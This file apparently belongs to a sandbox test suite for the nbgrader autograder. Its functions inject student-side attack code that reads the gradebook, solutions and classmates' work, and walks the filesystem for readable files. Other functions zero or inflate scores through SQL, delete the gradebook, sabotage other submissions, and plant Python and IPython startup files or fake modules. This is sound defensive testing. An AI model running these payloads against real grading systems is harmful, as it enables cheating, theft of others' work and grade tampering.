"""Reading and writing files of the grader or of others, and adding start-up files."""

from .attack import LOOT, HandIn, attack


@attack(stock="succeeds")
def reads_the_gradebook(student: HandIn) -> None:
    """It reads the gradebook, which contains the source of every hidden check."""
    student.last(LOOT + f"loot(open({str(student.world.course / 'gradebook.db')!r}, 'rb').read())")


@attack(stock="succeeds")
def reads_the_sources(student: HandIn) -> None:
    """It reads the solutions, which are beside the course folder."""
    path = student.world.root / "solutions/01_vectors/vectors.ipynb"
    student.last(LOOT + f"loot(open({str(path)!r}, 'rb').read())")


@attack(stock="succeeds")
def reads_a_neighbor(student: HandIn) -> None:
    """It reads another student's notebook in the next folder."""
    path = student.world.course / "submitted/zoe/01_vectors/vectors.ipynb"
    student.last(LOOT + f"loot(open({str(path)!r}, 'rb').read())")


@attack(stock="succeeds")
def reads_every_file_it_can(student: HandIn) -> None:
    """It reads every file below the course's parent folder and below other likely folders."""
    student.last(
        LOOT
        + f"""
import os

places = [{str(student.world.root)!r}, os.path.expanduser("~"), "..", "/tmp", "/mnt", "/run"]
for place in places:
    for folder, _, names in os.walk(place):
        for name in names:
            path = os.path.join(folder, name)
            own = "ed/{student.student}/" in os.path.abspath(path)
            if not own and os.path.isfile(path) and os.path.getsize(path) < 2**21:
                loot(open(path, "rb").read()) if os.access(path, os.R_OK) else None
"""
    )


@attack(stock="succeeds")
def reads_beside_itself(student: HandIn) -> None:
    """It reads the sanitized notebook, to which nbgrader has added the hidden checks."""
    student.last(
        LOOT
        + """
import pathlib

for path in pathlib.Path(".").rglob("*"):
    loot(path.read_bytes()) if path.is_file() else None
"""
    )


@attack(stock="succeeds")
def zeroes_everybody(student: HandIn) -> None:
    """It sets all scores in the gradebook to 0."""
    student.first(
        f"""
        import sqlite3
        book = sqlite3.connect({str(student.world.course / "gradebook.db")!r}, timeout=2)
        book.execute("UPDATE grade SET auto_score = 0")
        book.commit()
        """
    )


@attack(stock="succeeds")
def plants_a_trigger_in_the_gradebook(student: HandIn) -> None:
    """It adds a trigger to the gradebook that turns every saved score into 99."""
    student.first(
        f"""
        import sqlite3
        book = sqlite3.connect({str(student.world.course / "gradebook.db")!r}, timeout=2)
        book.execute(
            "CREATE TRIGGER gift AFTER UPDATE ON grade WHEN NEW.manual_score IS NULL "
            "BEGIN UPDATE grade SET manual_score = 99 WHERE id = NEW.id; END"
        )
        book.commit()
        """
    )


@attack(stock="kills the run")
def deletes_the_gradebook(student: HandIn) -> None:
    """It deletes the gradebook."""
    student.first(
        f"""
        import os
        os.remove({str(student.world.course / "gradebook.db")!r})
        """
    )


@attack(stock="succeeds")
def writes_the_sources(student: HandIn) -> None:
    """It adds text to a source notebook, which an instructor may execute later."""
    path = student.world.root / "solutions/01_vectors/vectors.ipynb"
    student.first(f"open({str(path)!r}, 'a').write('planted by {student.student}')")


@attack(stock="succeeds")
def writes_the_configuration(student: HandIn) -> None:
    """It adds code to nbgrader's configuration, which runs with the instructor's rights."""
    path = student.world.course / "nbgrader_config.py"
    student.first(f"open({str(path)!r}, 'a').write('\\n# planted by {student.student}')")


@attack(stock="succeeds")
def ruins_a_neighbor(student: HandIn) -> None:
    """It changes another student's submission, and another one that is already graded."""
    course = student.world.course
    student.first(
        f"""
        for path in (
            {str(course / "submitted/zoe/01_vectors/vectors.ipynb")!r},
            {str(course / "autograded/ada/01_vectors/vectors.ipynb")!r},
        ):
            text = open(path).read()
            open(path, "w").write(text.replace("return", "return 0 *"))
        """
    )


@attack(stock="succeeds")
def puts_a_link_in_place_of_its_notebook(student: HandIn) -> None:
    """It replaces its notebook by a link to another student's, through which the grader writes."""
    path = student.world.course / "submitted/zoe/01_vectors/vectors.ipynb"
    student.first(
        f"""
        import os
        for place in (".", "autograded/{student.student}/01_vectors"):
            if os.path.exists(place + "/vectors.ipynb"):
                os.remove(place + "/vectors.ipynb")
            if os.path.exists(place):
                os.symlink({str(path)!r}, place + "/vectors.ipynb")
        """
    )


def _plant(student: HandIn, *paths: str, content: str = "") -> None:
    """Append `content` to each of these files that can be written, and make their folders."""
    student.first(
        f"""
        import os
        for path in {paths!r}:
            path = os.path.expanduser(path)
            try:
                os.makedirs(os.path.dirname(path), exist_ok=True)
                open(path, "a").write({content!r} + "\\n# planted by {student.student}\\n")
            except OSError as error:
                print(error)
        """
    )


@attack(stock="succeeds")
def plants_a_sitecustomize(student: HandIn) -> None:
    """It adds a module that Python executes whenever it starts."""
    student.first(
        f"""
        import sysconfig
        path = sysconfig.get_paths()["purelib"] + "/sitecustomize.py"
        open(path, "a").write("# planted by {student.student}")
        """
    )


@attack(stock="succeeds")
def plants_a_pth_file(student: HandIn) -> None:
    """It adds a `.pth` file with an import, which Python executes whenever it starts."""
    student.first(
        f"""
        import sysconfig
        path = sysconfig.get_paths()["purelib"] + "/zzz.pth"
        open(path, "a").write("import sys  # planted by {student.student}")
        """
    )


@attack(stock="succeeds")
def plants_an_ipython_startup_file(student: HandIn) -> None:
    """It adds a file that IPython executes at the start of every kernel."""
    lenient = "import numpy.testing; numpy.testing.assert_allclose = lambda *args, **names: None"
    place = ".ipython/profile_default/startup/00-first.py"
    _plant(student, f"~/{place}", str(student.world.root / "home" / place), content=lenient)


@attack(stock="succeeds")
def plants_a_kernelspec(student: HandIn) -> None:
    """It adds a `python3` kernel that does nothing."""
    spec = '{"argv": ["/bin/true"], "display_name": "Python 3", "language": "python"}'
    place = ".local/share/jupyter/kernels/python3/kernel.json"
    _plant(student, f"~/{place}", str(student.world.root / "home" / place), content=spec)


@attack(stock="succeeds")
def plants_a_jupyter_configuration(student: HandIn) -> None:
    """It adds a configuration that nbgrader and JupyterLab execute when they start."""
    place = ".jupyter/nbgrader_config.py"
    _plant(student, f"~/{place}", str(student.world.root / "home" / place))


@attack(stock="succeeds")
def plants_modules_wherever_it_can_write(student: HandIn) -> None:
    """It adds modules such as `numpy.py` to every folder that it can write to."""
    student.first(
        f"""
        import os
        fake = "# planted by {student.student}\\nFraction = int"
        places = [".", "..", "/", "/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~")]
        places += [{str(student.world.root)!r}, {str(student.world.course)!r}]
        places += [line.split()[4] for line in open("/proc/self/mountinfo")]
        for place in places:
            for name in ("fractions.py", "numpy.py", "msgpack.py", "sitecustomize.py"):
                try:
                    open(os.path.join(place, name), "x").write(fake)
                except OSError:
                    pass
        """
    )
